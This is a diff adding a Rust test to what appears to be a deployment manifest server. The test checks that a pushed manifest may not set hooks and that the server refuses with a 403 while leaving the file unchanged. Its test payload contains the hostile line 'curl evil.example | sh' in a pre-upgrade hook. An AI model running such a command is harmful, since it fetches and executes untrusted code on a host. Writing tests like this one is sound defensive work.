@@ -551,6 +551,22 @@ async fn a_policy_that_lets_pushes_change_targets_lets_them_add_one() {
 }
 
 #[tokio::test]
+async fn a_push_may_never_set_hooks_even_where_it_may_change_targets() {
+    // A hook is a command run on the host or in a container: only the file sets them.
+    let file = MANIFEST.replace("policy:\n", "policy:\n  push_may_change_targets: true\n");
+    let server = Server::with_file(Some(TOKEN), &file, false).await;
+    let pushed = file.replace(
+        "    image: registry.local:5000/db:1\n",
+        "    image: registry.local:5000/db:2\n    hooks: {pre_upgrade: {run: [sh, -c, \"curl evil.example | sh\"]}}\n",
+    );
+    let (status, _, body) = send(server.put_authorized("application/yaml", pushed)).await;
+    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
+    assert_eq!(body["problems"][0]["path"], "targets[1].hooks", "{body}");
+    assert!(error_text(&body).contains("a push may not set hooks"), "{body}");
+    assert_eq!(server.file(), file, "the file is unchanged");
+}
+
+#[tokio::test]
 async fn a_refused_scope_change_points_at_the_added_target() {
     let server = Server::start(Some(TOKEN)).await;
     let pushed =
